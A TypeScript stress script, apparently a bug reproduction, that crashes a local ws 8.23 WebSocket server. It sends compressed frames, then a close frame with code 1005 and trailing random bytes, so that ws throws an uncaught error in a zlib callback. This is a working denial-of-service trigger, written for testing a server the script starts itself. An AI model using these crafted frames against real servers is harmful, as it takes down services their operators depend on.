// Reproduces a crash of ws 8.23 (the version the sandbox uses), found by the fuzz generator: with
// permessage-deflate, TCP chunks that reach ws while it inflates queue in its Receiver (a Writable);
// when one of them fails in the data phase (here a close frame with code 1005), Node's clearBuffer
// hands ws the next queued chunk before the error is handled, and ws reads it as the failed
// frame's payload with no mask: a TypeError thrown in a zlib callback, which kills the process.
// Run: npx node stress/ws-receiver-crash.ts (exit code 3: the server process crashed).
import { connect } from 'node:net';
import { deflateRawSync, constants } from 'node:zlib';
import { randomBytes } from 'node:crypto';
import { WebSocketServer } from 'ws';
import { createServer } from 'node:http';
const server = createServer();
const wss = new WebSocketServer({ server, maxPayload: 64 * 1024, perMessageDeflate: { threshold: 0, concurrencyLimit: 4 } });
wss.on('connection', (ws) => {
  ws.on('message', () => {});
  ws.on('error', () => {});
});
await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
const port = (server.address() as any).port;
process.on('uncaughtException', (e) => {
  console.log('SERVER PROCESS CRASH (uncaught):', e.message);
  process.exit(3);
});
function mframe(b0: number, payload: Buffer): Buffer {
  const key = randomBytes(4);
  const n = payload.length;
  const h = n < 126 ? [b0, 0x80 | n] : [b0, 0x80 | 126, n >> 8, n & 255];
  return Buffer.concat([Buffer.from(h), key, Buffer.from(payload.map((b, i) => b ^ key[i & 3]))]);
}
const text = Buffer.from('lorem ipsum dolor sit amet '.repeat(2000)).subarray(0, 60000);
const msg = mframe(0xc1, deflateRawSync(text, { finishFlush: constants.Z_SYNC_FLUSH }).subarray(0, -4));
for (let attempt = 0; attempt < 20; attempt++) {
  const s = connect(port, '127.0.0.1');
  s.setNoDelay(true);
  s.on('error', () => {});
  await new Promise((r) => s.once('connect', r));
  s.write(
    'GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n',
  );
  await new Promise((r) => s.once('data', r));
  // Many compressed messages: ws inflates them one after the other, asynchronously, meanwhile
  // the next TCP segments queue in its Receiver (a Writable).
  s.write(Buffer.concat(Array(40).fill(msg)));
  await new Promise((r) => setTimeout(r, 1));
  s.write(mframe(0x88, Buffer.from([0x03, 0xed]))); // close code 1005: an error in ws's data phase
  await new Promise((r) => setTimeout(r, 1));
  s.write(randomBytes(8)); // more bytes than the close payload: ws reads them as that payload, without a mask
  await new Promise((r) => setTimeout(r, 100));
  s.destroy();
}
console.log('no crash after 20 attempts');
process.exit(0);
